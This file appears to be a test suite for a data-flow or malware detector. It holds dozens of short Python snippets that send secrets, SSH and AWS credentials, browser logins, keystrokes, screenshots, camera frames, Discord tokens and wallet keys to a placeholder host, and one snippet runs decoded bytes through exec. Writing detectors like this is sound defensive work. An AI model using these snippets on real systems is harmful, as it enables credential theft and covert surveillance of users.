import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { evaluate, lines } from '../../../support/evaluated.ts';

/** Name, the source of `own.py` or all files, and the facts in the order they are found. */
const CASES: [string, string | Record<string, string>, string[]][] = [
  [
    'secret get',
    `import os, requests
requests.post('http://a.invalid', data={'k': os.environ.get('AWS_SECRET_ACCESS_KEY')})`,
    [
      'own.py:2 import flow secret-variable os.environ AWS_SECRET_ACCESS_KEY > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'getenv',
    `import os, urllib.request
urllib.request.urlopen('http://a.invalid?t=' + os.getenv('GITHUB_TOKEN', ''))`,
    [
      'own.py:2 import flow secret-variable os.environ GITHUB_TOKEN > network-address urllib.request.urlopen http://a.invalid?t=%GITHUB_TOKEN%',
      'own.py:2 import flow secret-variable os.environ GITHUB_TOKEN > network-send urllib.request.urlopen http://a.invalid?t=%GITHUB_TOKEN%',
    ],
  ],
  [
    'ssh file',
    `import os, requests
p = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')
with open(p) as f:
    d = f.read()
requests.post('http://a.invalid', data=d)`,
    ['own.py:5 import flow credential-file open ~/.ssh/id_rsa > network-send requests.post http://a.invalid'],
  ],
  [
    'ssh expanduser',
    `import os, requests
requests.post('http://a.invalid', files={'f': open(os.path.expanduser('~/.aws/credentials'), 'rb')})`,
    [
      'own.py:2 import flow credential-file open ~/.aws/credentials > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'pathlib',
    `from pathlib import Path
import requests
requests.post('http://a.invalid', data=(Path.home() / '.netrc').read_bytes())`,
    [
      'own.py:3 import flow credential-file pathlib.Path.read ~/.netrc > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'chrome',
    `import os, shutil, sqlite3, requests
p = os.environ['LOCALAPPDATA'] + r'\\Google\\Chrome\\User Data\\Default\\Login Data'
shutil.copy2(p, 'x.db')
c = sqlite3.connect('x.db').cursor()
c.execute('select 1')
rows = c.fetchall()
requests.post('http://a.invalid', json=rows)`,
    [
      'own.py:3 import flow browser-store shutil.copy2 %LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data > file-write shutil.copy2 x.db',
      'own.py:7 import flow browser-store shutil.copy2 %LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data > network-send requests.post http://a.invalid by written to x.db:3, read back from x.db:4',
      'own.py:7 import flow written-file sqlite3.connect x.db > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'passwd',
    `import requests
requests.post('http://a.invalid', data=open('/etc/passwd').read())`,
    ['own.py:2 import flow system-file open /etc/passwd > network-send requests.post http://a.invalid'],
  ],
  [
    'host',
    `import socket, platform, getpass, requests
info = {'h': socket.gethostname(), 'p': platform.platform(), 'u': getpass.getuser()}
requests.post('http://a.invalid', json=info)`,
    [
      'own.py:3 import flow host-identity socket.gethostname > network-send requests.post http://a.invalid',
      'own.py:3 import flow host-identity platform.platform > network-send requests.post http://a.invalid',
      'own.py:3 import flow user-identity getpass.getuser > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'process output',
    `import subprocess, requests
requests.post('http://a.invalid', data=subprocess.check_output(['whoami']))`,
    [
      'own.py:2 import flow user-identity subprocess.check_output whoami > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'popen communicate',
    `import subprocess, requests
p = subprocess.Popen('whoami', shell=True, stdout=subprocess.PIPE)
out, err = p.communicate()
requests.post('http://a.invalid', data=out)`,
    [
      'own.py:4 import flow user-identity subprocess.Popen.communicate whoami > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'os popen read',
    `import os, requests
requests.post('http://a.invalid', data=os.popen('whoami').read())`,
    ['own.py:2 import flow user-identity os.popen whoami > network-send requests.post http://a.invalid'],
  ],
  [
    'clipboard',
    `import pyperclip, requests
requests.post('http://a.invalid', data=pyperclip.paste())`,
    ['own.py:2 import flow clipboard pyperclip.paste > network-send requests.post http://a.invalid'],
  ],
  [
    'screen',
    `from PIL import ImageGrab
import io, requests
i = ImageGrab.grab()
b = io.BytesIO(); i.save(b, 'PNG')
requests.post('http://a.invalid', files={'f': b.getvalue()})`,
    ['own.py:5 import flow screen PIL.ImageGrab.grab > network-send requests.post http://a.invalid'],
  ],
  [
    'screen file',
    `import pyautogui, requests
pyautogui.screenshot('s.png')
requests.post('http://a.invalid', files={'f': open('s.png', 'rb')})`,
    [
      'own.py:2 import flow screen pyautogui.screenshot s.png > file-write pyautogui.screenshot s.png',
      'own.py:3 import flow screen pyautogui.screenshot s.png > network-send requests.post http://a.invalid by written to s.png:2, read back from s.png:3',
      'own.py:3 import flow written-file open s.png > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'screen save',
    `import pyautogui, requests
pyautogui.screenshot().save('s.png')
requests.post('http://a.invalid', files={'f': open('s.png', 'rb')})`,
    [
      'own.py:2 import flow screen pyautogui.screenshot > file-write pyautogui.screenshot.save s.png',
      'own.py:3 import flow screen pyautogui.screenshot > network-send requests.post http://a.invalid by written to s.png:2, read back from s.png:3',
      'own.py:3 import flow written-file open s.png > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'keyboard',
    `from pynput import keyboard
import requests
log = []
def on(k):
    log.append(str(k))
    requests.post('http://a.invalid', data=''.join(log))
keyboard.Listener(on_press=on).start()`,
    ['own.py:6 import flow keyboard pynput.keyboard.Listener > network-send requests.post http://a.invalid'],
  ],
  [
    'keyboard module',
    `import keyboard, requests
keyboard.on_press(lambda e: requests.post('http://a.invalid', data=e.name))`,
    ['own.py:2 import flow keyboard keyboard.on_press > network-send requests.post http://a.invalid'],
  ],
  [
    'camera',
    `import cv2, requests
c = cv2.VideoCapture(0)
ok, frame = c.read()
cv2.imwrite('f.png', frame)
requests.post('http://a.invalid', files={'f': open('f.png', 'rb')})`,
    [
      'own.py:4 import flow camera cv2.VideoCapture.read > file-write cv2.imwrite f.png',
      'own.py:5 import flow camera cv2.VideoCapture.read > network-send requests.post http://a.invalid by written to f.png:4, read back from f.png:5',
      'own.py:5 import flow written-file open f.png > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'microphone',
    `import sounddevice, requests
r = sounddevice.rec(100)
requests.post('http://a.invalid', data=r.tobytes())`,
    ['own.py:3 import flow microphone sounddevice.rec 100 > network-send requests.post http://a.invalid'],
  ],
  [
    'listing',
    `import os, requests
requests.post('http://a.invalid', json=os.listdir('/'))`,
    ['own.py:2 import flow directory-listing os.listdir / > network-send requests.post http://a.invalid'],
  ],
  [
    'walk',
    `import os, requests
for r, d, fs in os.walk('/home'):
    for f in fs:
        p = os.path.join(r, f)
        requests.post('http://a.invalid', files={'f': open(p, 'rb')})`,
    [
      'own.py:5 import flow file-content open /home/«os.walk»/«os.walk» > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'glob',
    `import glob, requests
for p in glob.glob('/home/*/.ssh/*'):
    requests.post('http://a.invalid', data=open(p).read())`,
    [
      'own.py:3 import flow credential-file open /home/*/.ssh/«glob.glob» > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'processes',
    `import psutil, requests
requests.post('http://a.invalid', json=[p.name() for p in psutil.process_iter()])`,
    [
      'own.py:2 import flow installed-software psutil.process_iter > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'cloud metadata',
    `import requests
r = requests.get('http://169.254.169.254/latest/meta-data/')
requests.post('http://a.invalid', data=r.text)`,
    [
      'own.py:3 import flow cloud-metadata requests.get http://169.254.169.254/latest/meta-data/ > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'ip lookup',
    `import requests
ip = requests.get('https://api.ipify.org').text
requests.post('http://a.invalid', data=ip)`,
    [
      'own.py:3 import flow network-identity requests.get https://api.ipify.org > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'input',
    `import requests
p = input('password: ')
requests.post('http://a.invalid', data=p)`,
    [
      'own.py:3 import flow user-input builtins.input password:  > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'getpass',
    `import getpass, requests
requests.post('http://a.invalid', data=getpass.getpass())`,
    ['own.py:2 import flow user-input getpass.getpass > network-send requests.post http://a.invalid'],
  ],
  [
    'parameter',
    `import requests
def from_key(private_key):
    requests.get(f'http://a.invalid/{private_key}')`,
    [
      'own.py:3 call flow parameter private_key private_key > network-address requests.get http://a.invalid/…',
      'own.py:3 call flow parameter private_key private_key > network-send requests.get http://a.invalid/…',
    ],
  ],
  [
    'crypto key',
    `from eth_account import Account
import requests
def make():
    a = Account.create()
    requests.post('http://a.invalid', data=a.key.hex())
    return a`,
    [
      'own.py:5 call flow crypto-key eth_account.Account.create.key > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'wallet',
    `import os, requests
requests.post('http://a.invalid', data=open(os.path.expanduser('~/.config/solana/id.json')).read())`,
    [
      'own.py:2 import flow wallet open ~/.config/solana/id.json > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'discord',
    `import os, re, requests
p = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'
for f in os.listdir(p):
    for l in open(p + '\\\\' + f, errors='ignore').readlines():
        for t in re.findall(r'[\\w-]{24}', l):
            requests.post('http://a.invalid', json={'t': t})`,
    [
      'own.py:6 import flow messenger-token open %APPDATA%\\discord\\Local Storage\\leveldb\\«os.listdir» > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'a variable that says whose machine it is',
    `import os, requests
requests.get('http://a.invalid?h=' + os.environ['COMPUTERNAME'])`,
    [
      'own.py:2 import flow host-identity os.environ COMPUTERNAME > network-address requests.get http://a.invalid?h=%COMPUTERNAME%',
      'own.py:2 import flow host-identity os.environ COMPUTERNAME > network-send requests.get http://a.invalid?h=%COMPUTERNAME%',
    ],
  ],
  [
    'what a program prints, by what the program is',
    `import os, requests
requests.post('http://a.invalid', data=os.popen('printenv'))
requests.post('http://b.invalid', data=os.popen('make all'))`,
    [
      'own.py:2 import flow environment-all os.popen printenv > network-send requests.post http://a.invalid',
      'own.py:3 import flow process-output os.popen make all > network-send requests.post http://b.invalid',
    ],
  ],
  [
    'a secret held by something that is handed in',
    `import requests
def connect(config):
    requests.post('http://a.invalid', json={'k': config.access_key_secret, 'r': config.region})`,
    [
      'own.py:3 call flow parameter access_key_secret access_key_secret > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'secret parameters that may be left out, and the key of a function that names it',
    `import requests
def connect(secret_key=None, region=None):
    requests.post('http://a.invalid', json=[secret_key, region])
def parse_private_key(key):
    requests.post('http://b.invalid', data=key)`,
    [
      'own.py:3 call flow parameter secret_key secret_key > network-send requests.post http://a.invalid',
      'own.py:5 call flow parameter key key > network-send requests.post http://b.invalid',
    ],
  ],
  [
    'an address that holds where a variable is not set',
    `import os, requests
def connect(secret_key):
    requests.post(os.environ.get('OWN_URL', 'https://a.invalid'), data=secret_key)`,
    [
      'own.py:3 call flow environment os.environ OWN_URL > network-address requests.post https://a.invalid',
      'own.py:3 call flow environment os.environ OWN_URL > network-send requests.post https://a.invalid',
      'own.py:3 call flow parameter secret_key secret_key > network-send requests.post https://a.invalid',
    ],
  ],
  [
    'modules that whoever runs a pasted text has imported',
    `def beacon():
    requests.post('http://a.invalid', data=socket.gethostname())`,
    ['own.py:2 call flow host-identity socket.gethostname > network-send requests.post http://a.invalid'],
  ],
  [
    'bytes of a decoded table, mixed with a key nobody gave',
    `def start(key):
    table = bytearray.fromhex('${'636f6465'.repeat(30)}')
    pad = bytearray.fromhex(key)
    plain = bytearray([table[i] ^ pad[i % 6] for i in range(len(table))])
    exec(plain.decode('ascii').replace('A', 'b'))`,
    [
      'own.py:5 call flow decoded builtins.bytearray.fromhex 240 characters > code-execution builtins.exec',
      'own.py:5 call flow decoded builtins.bytearray.fromhex > code-execution builtins.exec',
    ],
  ],
];

describe('what is read and leaves by the network', () => {
  for (const [name, files, expected] of CASES) {
    it(name, () => assert.deepEqual(lines(evaluate(files), 'flow'), expected));
  }
});
